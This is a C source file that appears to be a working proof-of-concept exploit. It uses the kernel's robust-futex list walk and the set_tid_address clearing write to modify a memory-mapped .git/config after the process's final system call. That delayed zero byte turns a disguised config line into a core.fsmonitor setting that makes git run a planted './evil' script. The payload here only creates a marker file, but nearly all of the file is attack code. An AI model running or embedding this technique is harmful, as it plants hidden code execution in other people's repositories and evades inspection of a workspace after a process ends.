/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Changes a file after its last system call.  As a thread is taken apart the kernel walks
 * its robust list and then writes a zero to the address given by set_tid_address.  Here
 * the list is long and in a file that is not in memory, which takes a while, and the
 * address is in a mapped .git/config: harmless before that write, and with it one that
 * runs ./evil.
 *
 *   cd WORKSPACE && latewrite
 */
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { ENTRIES = 2000, APART = 8192, FUTEX_AT = 4096, THREADS = 6 };

/* The kernel's: where the list goes on, and where the lock is from there. */
struct list_head {
	void *next;
	long offset;
	void *pending;
};

static char *list, *last_byte;
static pthread_barrier_t all_there;

static void die(const char *what)
{
	perror(what);
	exit(9);
}

static void put(const char *path, const char *text, mode_t mode)
{
	int fd = open(path, O_CREAT | O_TRUNC | O_WRONLY | O_CLOEXEC, mode);

	if (fd < 0 || write(fd, text, strlen(text)) != (ssize_t)strlen(text))
		die(path);
	close(fd);
}

static void *map(int fd, size_t size, void *at)
{
	void *p = mmap(at, size, PROT_READ | PROT_WRITE,
		       MAP_SHARED | (at ? MAP_FIXED_NOREPLACE : 0), fd, 0);

	if (p == MAP_FAILED)
		die("mmap");
	return p;
}

/* A ring of entries, a page and more apart, written out and forgotten by the kernel. */
static void make_list(void)
{
	const size_t size = (size_t)(ENTRIES + 1) * APART;
	void *at = (void *)0x600000000000;
	int fd = open("list", O_CREAT | O_TRUNC | O_RDWR | O_CLOEXEC, 0600);

	if (fd < 0 || ftruncate(fd, (off_t)size) < 0)
		die("list");
	list = map(fd, size, at);
	for (size_t i = 0; i <= ENTRIES; i++) {
		char *next = i < ENTRIES ? list + (i + 1) * APART : list;
		memcpy(list + i * APART, &next, sizeof next);
	}
	((struct list_head *)list)->offset = FUTEX_AT;
	if (fsync(fd) < 0 || munmap(list, size) < 0)
		die("fsync");
	posix_fadvise(fd, 0, 0, POSIX_FADV_DONTNEED);
	list = map(fd, size, at);
	madvise(list, size, MADV_RANDOM);
	unlink("list");
	close(fd);
}

static void *thread(void *arg)
{
	(void)arg;
	syscall(SYS_set_robust_list, list, sizeof(struct list_head));
	syscall(SYS_set_tid_address, last_byte);
	pthread_barrier_wait(&all_there);
	for (;;)
		pause();
	return NULL;
}

int main(void)
{
	mkdir(".git", 0755);
	mkdir(".git/objects", 0755);
	mkdir(".git/refs", 0755);
	put(".git/HEAD", "ref: refs/heads/main\n", 0644);
	put("evil", "#!/bin/sh\ntouch pwned\n", 0755);
	put(".git/config",
	    "[core \"fsmonitor\"] [user] name = \"] x = ./evil\n"
	    "[core]\nrepositoryformatversion = 0\n", 0644);
	int fd = open(".git/config", O_RDWR | O_CLOEXEC);
	if (fd < 0)
		die(".git/config");
	char *text = map(fd, 4096, NULL);
	last_byte = strstr(text, "fsmonitor\"") + strlen("fsmonitor");
	make_list();
	pthread_barrier_init(&all_there, NULL, THREADS + 1);
	for (int i = 0; i < THREADS; i++) {
		pthread_t t;
		if (pthread_create(&t, NULL, thread, NULL))
			die("thread");
	}
	pthread_barrier_wait(&all_there);
	syscall(SYS_exit_group, 0);
	return 9;
}
